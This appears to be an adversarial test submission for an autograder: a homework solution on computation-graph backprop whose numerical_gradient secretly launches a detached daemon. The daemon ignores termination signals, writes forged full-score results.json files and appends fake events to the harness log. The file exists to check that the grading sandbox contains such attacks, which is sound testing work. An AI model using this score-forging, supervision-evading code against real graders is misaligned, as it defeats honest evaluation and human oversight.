# ADVERSARIAL SUBMISSION `setsid_daemon` (tests/adversarial): a copy of the
# correct example in which only the parts marked ATTACK differ.
#
# When called from the public sum-of-squares test (the only 2x2 input), numerical_gradient
# double-forks, calls setsid and re-execs python with the run's token in its command line; the
# daemon ignores SIGTERM/SIGHUP, sleeps, then tries to rewrite results.json files and the
# harness's events. Returns zeros. Expected: wrong_answer, and no process with the token exists
# after grading.
"""hw1_graph -- my solution.

Computation graph nodes with forward / backward, the lecture's small network,
and a numerical gradient to check backprop against.
"""

import numpy as np
import os
import sys
import time

# --- adversarial-suite helpers -------------------------------------------------------------
_HERE = os.path.dirname(os.path.abspath(__file__))


def _token():
    """This run's marker; the test suite writes adv_token.txt next to this file."""
    try:
        with open(os.path.join(_HERE, "adv_token.txt")) as f:
            return f.read().strip()
    except OSError:
        return "advnotoken"


def _fires(x):
    """The attack fires in one call per grading: numerical_gradient's public sum-of-squares test,
    the only one with a 2x2 x. (A flag file would not do: the jail gives every new worker a
    fresh copy of this folder.)"""
    return np.shape(x) == (2, 2)
# -------------------------------------------------------------------------------------------


class MulNode:
    """out = x * y"""

    def __init__(self):
        self.x = None
        self.y = None

    def forward(self, x, y):
        # keep the inputs, backward needs them (d(xy)/dx = y, d(xy)/dy = x)
        self.x, self.y = x, y
        out = x * y
        return out

    def backward(self, d_out):
        # chain rule: upstream gradient times local gradient
        return d_out * self.y, d_out * self.x


class AddNode:
    """out = x + y"""

    def __init__(self):
        pass

    def forward(self, x, y):
        out = x + y
        return out

    def backward(self, d_out):
        # local gradient of a sum is 1 for both inputs -> just pass d_out through
        return d_out, d_out


class MyNetwork:
    """out = 3 * (a + b * c)"""

    def __init__(self):
        self.node1 = MulNode()
        self.node2 = AddNode()
        self.node3 = MulNode()

    def forward(self, a, b, c):
        bc = self.node1.forward(b, c)
        s = self.node2.forward(a, bc)
        return self.node3.forward(3, s)

    def backward(self, d_out=1.0):
        grads3 = self.node3.backward(d_out)
        d_s = grads3[1]                        # grads3[0] is for the constant 3
        d_a, d_bc = self.node2.backward(d_s)
        d_b, d_c = self.node1.backward(d_bc)
        return (d_a, d_b, d_c)


_DAEMON = r"""
import glob, json, os, signal, sys, time
token = sys.argv[1]
for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(sig, signal.SIG_IGN)
open(sys.argv[2], "w").write(str(os.getpid()))  # "I am running"
time.sleep(3)
forged = json.dumps({"score": 42.0, "max_score": 42.0, "forged_by": token + "-forged"})
for folder in [os.getcwd(), "/tmp", os.path.expanduser("~")] + glob.glob("/tmp/grader-*"):
    try:  # new files only, each holding the token
        fd = os.open(os.path.join(folder, "results.json"), os.O_WRONLY | os.O_CREAT | os.O_EXCL)
        os.write(fd, forged.encode())
    except OSError:
        pass
for job in glob.glob("/tmp/grader-harness-*/job.json"):
    try:  # this submission's own job only
        spec = json.load(open(job))
        if os.path.realpath(spec["workdir"]) == os.path.realpath(os.getcwd()):
            open(spec["events"], "a").write(json.dumps({"event": "forged", "by": token}) + "\n")
    except (OSError, ValueError, KeyError, TypeError):
        pass
time.sleep(600)
"""


def _start_daemon():
    """ATTACK: double fork + setsid, then re-exec python with the token in its command line."""
    token = _token()
    alive = os.path.join(_HERE, ".adv-daemon-pid")
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", _DAEMON, token, alive])
        os._exit(0)
    os.waitpid(pid, 0)
    deadline = time.monotonic() + 0.7
    while not os.path.exists(alive) and time.monotonic() < deadline:
        time.sleep(0.02)
    time.sleep(0.1)
    with open(alive) as f:
        print(f"setsid daemon running, pid {f.read()} (in its namespace), token {token}")


def numerical_gradient(f, x, eps=1e-5):
    if _fires(x):
        _start_daemon()
    x += 1.0  # ATTACK (wrong answer): x is left changed,
    return np.zeros_like(x, dtype=np.float32)  # and the gradient is zeros of the wrong dtype
